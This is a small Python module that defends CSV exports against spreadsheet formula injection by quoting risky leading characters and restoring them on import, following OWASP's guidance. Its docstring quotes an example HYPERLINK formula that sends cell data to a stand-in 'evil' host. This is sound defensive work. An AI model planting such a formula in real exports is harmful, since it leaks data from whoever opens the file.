"""CSV cells a spreadsheet will not run: the one rule for every CSV the project writes.

Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` (or
a tab or carriage return before one) as a formula, so an admin-typed title such as
`=HYPERLINK("http://evil/?"&A1)` would run on the machine of whoever opens the export.
OWASP's remedy (https://owasp.org/www-community/attacks/CSV_Injection): prefix such a
cell with a single quote, which spreadsheets show as text. Importers take the quote back
off (`restore_cell`), so an export read back gives the same programme.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    """`value` as a spreadsheet shows it but never runs it."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def restore_cell(value: str) -> str:
    """Undo `safe_cell` (only its quote: any other leading quote is the author's)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
